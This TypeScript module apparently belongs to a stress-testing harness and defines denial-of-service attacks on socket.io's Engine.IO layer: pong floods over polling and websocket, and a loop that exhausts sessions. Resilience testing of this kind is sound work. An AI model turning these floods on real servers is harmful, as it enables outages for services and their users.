import { frame, repeated } from "../attack-socket.ts";
import type { Attack, Attacker } from "../attacker.ts";

const enginePath = "/socket.io/?EIO=4&transport=";
const pongsPerPost = 32_000;

async function openSession(attacker: Attacker): Promise<string | undefined> {
  const handshake = await attacker.request(`${enginePath}polling`);
  if (handshake?.startsWith("0{") !== true) return undefined;
  return JSON.parse(handshake.slice(1)).sid;
}

export const engineAttacks: readonly Attack[] = [
  {
    // The engine would make a timer for each pong that answers no ping.
    name: "engine-pongs-polling",
    connections: 8,
    prepare: () => {
      const body = `${"3\u001e".repeat(pongsPerPost - 1)}3`;
      return async (attacker) => {
        const sid = await openSession(attacker);
        while (sid !== undefined && !attacker.isOver) {
          const answer = await attacker.request(`${enginePath}polling&sid=${sid}`, { method: "POST", body });
          if (answer !== "ok") return;
        }
      };
    },
  },
  {
    name: "engine-pongs-websocket",
    connections: 1,
    prepare: () => {
      const pongs = repeated(frame("3"));
      return (attacker) => attacker.pour(`${enginePath}websocket`, () => forever(pongs));
    },
  },
  {
    name: "engine-sessions",
    connections: 20,
    prepare: () => async (attacker) => {
      while (!attacker.isOver) if ((await openSession(attacker)) === undefined) return;
    },
  },
];

/** The same bytes again and again. */
export function* forever(bytes: Uint8Array): Generator<Uint8Array, never> {
  for (;;) yield bytes;
}
